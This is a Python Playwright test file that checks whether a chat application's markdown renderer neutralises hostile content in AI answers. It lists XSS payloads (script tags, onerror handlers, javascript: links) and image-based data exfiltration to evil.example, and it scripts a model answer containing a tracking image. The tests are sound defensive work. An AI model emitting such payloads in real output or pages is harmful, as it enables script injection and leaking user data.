"""What a model or a document says is never trusted: no script runs, nothing is loaded.

``page_for`` fails a test whose page asks anything of another site or breaks the content policy.
"""

import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.scripted_llm import stream

pytestmark = pytest.mark.django_db(transaction=True)

SHARED = Path(__file__).resolve().parents[3] / "shared" / "hostile"
PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "![track](https://evil.example/x.png?data=secret)",
    "![track][ref]\n\n[ref]: https://evil.example/x.png",
    "[go](javascript:alert(1))",
    "[go](data:text/html,<script>alert(1)</script>)",
    "[log out](/accounts/logout/)",
    '<a href="x" onclick="alert(1)">x</a><iframe src="https://evil.example"></iframe>',
    '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
    "<style>@import url(https://evil.example/x.css)</style>",
    '<form action="https://evil.example"><input name="q"><button>Send</button></form>',
    "```<img src=x onerror=alert(1)>\n<img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$",
    "$$\\htmlStyle{background:url(https://evil.example)}{x}$$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](vbscript:x) |",
    '<https://evil.example/"onmouseover=alert(1)>',
    '!["><img src=x onerror=alert(1)>](x"onerror="alert(1))',
]
RENDER = """
async (payloads) => {
  const { MarkdownView } = await import(document.querySelector('script[src*="js/chat"]').src
    .replace('js/chat', 'js/markdown'));
  window.ran = [];
  window.alert = (message) => window.ran.push(String(message));
  const box = document.createElement('div');
  box.className = 'prose';
  document.body.append(box);
  const found = [];
  for (const payload of payloads) {
    box.replaceChildren();
    const view = new MarkdownView(box);
    // As it streams: in three pieces, then whole.
    for (const share of [0.3, 0.6, 0.9]) {
      view.update(payload.slice(0, payload.length * share), { final: false });
    }
    view.update(payload);
    await new Promise((resolve) => setTimeout(resolve));
    for (const element of box.querySelectorAll('*')) {
      const names = element.getAttributeNames();
      const href = element.getAttribute('href');
      const drawn = element.closest('.katex');
      const bad =
        ['SCRIPT', 'IMG', 'IFRAME', 'STYLE', 'FORM', 'OBJECT', 'EMBED', 'LINK', 'VIDEO', 'AUDIO',
          'image', 'META', 'BASE'].includes(element.tagName) ||
        names.some((name) => name.startsWith('on') || name === 'src' || name === 'srcset') ||
        (element.tagName === 'INPUT' && element.type !== 'checkbox') ||
        (href !== null && !/^(https?:\\/\\/|mailto:)/i.test(href)) ||
        (drawn && href !== null);
      if (bad) found.push([payload, element.outerHTML.slice(0, 200)]);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  box.remove();
  return { found, ran: window.ran };
}
"""


def rendered(page: Page, payloads: list[str]):
    page.goto("/i/law/")
    return page.evaluate(RENDER, payloads)


def test_hostile_markdown_is_harmless(cast, page_for):
    assert rendered(page_for(cast.teammate), PAYLOADS) == {"found": [], "ran": []}


@pytest.mark.skipif(not SHARED.exists(), reason="../shared/hostile is absent")
def test_the_sanitisers_own_attack_list_is_harmless(cast, page_for):
    lines = (SHARED / "xss" / "payloads.jsonl").read_text().split("\n")
    payloads = [json.loads(line)["payload"] for line in lines if line]
    assert rendered(page_for(cast.teammate), payloads) == {"found": [], "ran": []}


@pytest.mark.skipif(not SHARED.exists(), reason="../shared/hostile is absent")
def test_the_markdown_specifications_examples_are_harmless(cast, page_for):
    texts = [
        path.read_text(errors="replace")
        for path in sorted((SHARED / "gfm").rglob("*.txt"))
        if path.name != "SOURCE.txt"
    ]
    examples = [
        example.split("\n.\n")[0].replace("→", "\t")
        for text in texts
        for example in text.split("`" * 32 + " example")[1:]
    ]
    assert len(examples) > 500
    assert rendered(page_for(cast.teammate), examples) == {"found": [], "ran": []}


def test_an_answer_shows_where_its_links_go_and_loads_no_image(library, llm, page_for):
    llm.script(
        stream("Voir [le site](https://www.example.org/a) ", "![logo](https://evil.example/x.png)")
    )
    page = page_for(library.teammate)
    page.goto("/i/law/")
    page.get_by_role("textbox").last.fill("Combien de jours de congé ont les doctorants ?")
    page.keyboard.press("Enter")
    answer = page.locator("chat-answer")
    expect(answer).to_have_attribute("data-status", "complete")
    links = answer.locator(".prose a")
    expect(links).to_have_text(["le site (www.example.org)", "logo (evil.example)"])
    expect(links.first).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(answer.locator("img")).to_have_count(0)
